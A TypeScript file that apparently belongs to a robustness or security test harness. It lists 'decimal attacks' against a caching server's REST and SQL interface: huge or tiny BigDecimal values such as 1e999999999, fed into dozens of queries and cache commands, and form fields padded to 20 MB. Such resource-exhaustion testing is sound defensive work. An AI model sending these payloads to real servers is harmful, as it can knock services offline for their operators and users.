/** Attacks with decimals: few characters that denote very many digits. */
import { type Attack, body, command, FORM, short, statement } from './attack.ts';

const HUGE = '1e999999999';
const TINY = '1e-999999999';
const DECIMAL = 'java.math.BigDecimal';
const argument = (qry: string, value = HUGE) => statement(qry, { params: { arg1: value, arg1Type: DECIMAL } });

/** Operations on a parameter. */
const OPERATIONS: readonly string[] = [
  'select ?+1',
  'select ?-1',
  'select ?*2',
  'select ?/3',
  'select ?%7',
  'select 1+?',
  'select -?',
  'select ?>1',
  'select ?=1',
  'select ? between 1 and 2',
  'select ? in (1, 2)',
  'select cast(? as decimal)',
  'select cast(? as varchar)',
  'select cast(? as bigint)',
  'select cast(? as double)',
  'select cast(? as decimal(10,2))',
  'select round(?)',
  'select round(?, 2)',
  'select floor(?)',
  'select ceil(?)',
  'select trunc(?)',
  'select mod(?, 7)',
  'select abs(?)',
  'select sign(?)',
  'select sqrt(?)',
  'select power(?, 2)',
  'select to_char(?)',
  "select to_char(?, '9.99')",
  'select length(?)',
  "select ? || 'a'",
  'select greatest(?, 1)',
  'select sum(cast(? as decimal)) from T',
  'select avg(cast(? as decimal)) from T',
  'select count(*) from T where n > ?',
  'select * from T order by n + ?',
  'update T set n = ? where id = 2',
  'insert into T (id, n) values (100010, ?)',
  'merge into T (id, n) values (100010, ?)',
];

/** Sends a form that ends with a text of 20 MB. */
const longText = (params: string, text: string) =>
  body(`${params}${text}... (20 MB)`, FORM, () => params + text.repeat(20_000_000 / text.length), { anyEngine: false });

/** Long texts where a number, date or UUID is expected. */
const LONG_TEXTS: readonly Attack[] = [
  ...short(longText('cmd=put&cacheName=decimals&key=x&val=1&exp=', '9')),
  longText('cmd=qryfldexe&qry=select+1&pageSize=', '9'),
  longText('cmd=qryfldexe&qry=select+?&pageSize=1&arg1Type=double&arg1=', '9'),
  ...['int', 'long', 'float', 'double', 'date', 'timestamp', 'java.util.UUID', 'boolean', DECIMAL].flatMap((type) =>
    ['9', 'ab'].map((text) => longText(`cmd=put&cacheName=decimals&key=x&valueType=${type}&val=`, text)),
  ),
];

export const DECIMAL_ATTACKS: readonly Attack[] = [
  ...short(
    ...['select ?+1', 'select ?>1', 'select round(?)', 'select cast(? as varchar)'].map((qry) => argument(qry)),
    command({ cmd: 'put', cacheName: 'decimals', key: 'a', val: HUGE, valueType: DECIMAL }),
    statement('select 1e999999999+1'),
  ),
  ...OPERATIONS.map((qry) => argument(qry)),
  ...OPERATIONS.map((qry) => argument(qry, TINY)),
  argument('select ?+1', '0e-2147483647'),
  argument('select ?+1', '-1e2147483647'),
  ...OPERATIONS.map((qry) => statement(qry.replace('?', HUGE))),
  ...OPERATIONS.map((qry) => statement(qry.replace('?', `cast('${HUGE}' as decimal)`))),
  statement('select power(10, 999999999) + cast(1 as decimal)'),
  statement('select cast(1e308 as decimal) * cast(1e308 as decimal)'),
  ...['put', 'getput', 'add', 'rep', 'putifabs', 'cas', 'getputifabs', 'append', 'rmvval', 'repval'].map((cmd) =>
    command({ cmd, cacheName: 'decimals', key: 'a', val: HUGE, val2: HUGE, valueType: DECIMAL }),
  ),
  ...['put', 'get', 'conkey', 'rmv', 'updatettl'].map((cmd) =>
    command({ cmd, cacheName: 'decimals', key: HUGE, val: '1', exp: '1000', keyType: DECIMAL }),
  ),
  command({ cmd: 'put', cacheName: 'decimals', key: 'z', val: '0e-2147483647', valueType: DECIMAL }),
  command({ cmd: 'put', cacheName: 'decimals', key: 'l', val: `[${HUGE}]`, valueType: 'java.util.ArrayList' }),
  command({ cmd: 'put', cacheName: 'decimals', key: 'n', val: HUGE, valueType: 'java.lang.Number' }),
  command({ cmd: 'put', cacheName: 'decimals', key: 'i', val: '9'.repeat(900_000), valueType: 'java.math.BigInteger' }),
  command({ cmd: 'incr', cacheName: 'decimals', key: 'c', delta: HUGE }),
  command({ cmd: 'putall', cacheName: 'decimals', k1: 'a', v1: HUGE, k2: 'b', v2: TINY, valueType: DECIMAL }),
  ...LONG_TEXTS,
];
